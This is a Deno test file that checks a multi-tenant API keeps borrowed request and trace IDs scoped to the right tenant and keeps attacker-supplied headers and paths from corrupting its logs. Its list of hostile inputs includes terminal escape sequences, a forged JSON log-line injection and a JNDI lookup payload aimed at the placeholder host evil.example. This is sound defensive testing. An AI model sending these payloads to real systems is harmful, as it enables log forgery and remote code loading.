import assert from "node:assert/strict";
import { createLogger } from "../../lib/log.ts";
import { adminOf, peerOf, testApi } from "../support/api.ts";

const traceId = "4bf92f3577b34da6a3ce929d0e0e4736";
const requestId = "request-of-another-tenant";

/** What obeys in a terminal or ends a line, in forms that a header or a path can carry. */
const hostile = [
  "\x1b[2J\x1b[31mcritical",
  "\x1b]0;title\x07",
  "\x9b31m",
  '"}\t{"level":"critical","message":"forged"',
  "${jndi:ldap://evil.example/a}",
  "\u00e9\u0085next",
];

Deno.test("sight: N3: whoever takes another tenant's request and trace ids speaks as himself, and finds nothing by them", async () => {
  await using api = await testApi();
  const [acme, other] = [await adminOf(api, "acme"), await adminOf(api, "other")];
  const [ours, theirs] = [await peerOf(api, acme), await peerOf(api, other)];
  const headers = { "X-Request-ID": requestId, traceparent: `00-${traceId}-00f067aa0ba902b7-01` };
  const before = api.log.length;
  for (const [who, peer] of [[acme, ours], [other, theirs]] as const) {
    const made = await api.request("/api/v1/users", {
      via: peer.via,
      token: who.token,
      body: { email: `new@${who.slug}.example` },
      headers: { ...headers, tracestate: "x=1", baggage: `tenant_id=${acme.tenantId}` },
    });
    assert.equal(made.status, 201, made.text);
    assert.equal(made.headers.get("server-timing"), null);
    for (const name of ["traceparent", "tracestate", "baggage", "traceresponse"]) {
      assert.equal(
        made.headers.get(name),
        null,
        "nothing comes back of what another one may have sent",
      );
    }
  }
  const lines = api.log.slice(before).map((line) => JSON.parse(line))
    .filter((line) => line.message === "request");
  assert.deepEqual(
    lines.map((line) => [line.request_id, line.trace_id, line.tenant_id, line.peer_id]),
    [
      [requestId, traceId, acme.tenantId, ours.id],
      [requestId, traceId, other.tenantId, theirs.id],
    ],
  );
  for (const who of [acme, other]) {
    const { body } = await api.request("/api/v1/audit?limit=200", { token: who.token });
    const found = body.items.filter((item: Record<string, unknown>) =>
      item["request_id"] === requestId
    );
    assert.ok(found.length > 0);
    const foreign = who === acme ? "other.example" : "acme.example";
    assert.ok(!JSON.stringify(body).includes(foreign));
  }
});

Deno.test("sight: user agents, ids and paths of attackers stand in no line as they were sent, for people or for programs", async () => {
  await using api = await testApi({ inProcess: "sends headers that no client can put on a wire" });
  const acme = await adminOf(api, "acme");
  const peer = await peerOf(api, acme);
  const before = api.log.length;
  let asked = 0;
  for (const text of hostile) {
    const latin = [...text].filter((char) => char.charCodeAt(0) < 256 && !"\0\r\n".includes(char))
      .join("");
    for (const name of ["User-Agent", "X-Request-ID", "Referer", "X-Tenant-ID", "traceparent"]) {
      await api.request(`/nowhere/${encodeURIComponent(text)}`, {
        via: peer.via,
        token: acme.token,
        headers: { [name]: latin },
      });
      asked++;
    }
  }
  const raw = api.log.slice(before);
  const requests = raw.filter((line) => JSON.parse(line).message === "request");
  assert.equal(requests.length, asked, "a line each, and none that somebody else wrote");
  for (const line of raw) {
    // deno-lint-ignore no-control-regex
    assert.doesNotMatch(line, /[\0-\x1f\x7f-\x9f\u2028\u2029]/);
    const { level, request_id, trace_id } = JSON.parse(line);
    assert.notEqual(level, "critical");
    assert.match(String(request_id ?? "absent-as-such"), /^[A-Za-z0-9._-]{8,64}$/);
    assert.match(String(trace_id ?? "0".repeat(32)), /^[0-9a-f]{32}$/);
  }
  // The same, for a terminal.
  const told: string[] = [];
  const pretty = createLogger({
    level: "info",
    format: "pretty",
    write: (line) => told.push(line),
  });
  for (const text of hostile) {
    pretty.info("request", { path: decodeURIComponent(text), agent: text });
  }
  for (const line of told) {
    const ours = ["\x1b[0m", "\x1b[32m", "\x1b[90m"];
    const rest = ours.reduce((text, code) => text.replaceAll(code, ""), line);
    // deno-lint-ignore no-control-regex
    assert.doesNotMatch(rest, /[\0-\x1f\x7f-\x9f]/, JSON.stringify(line));
  }
});
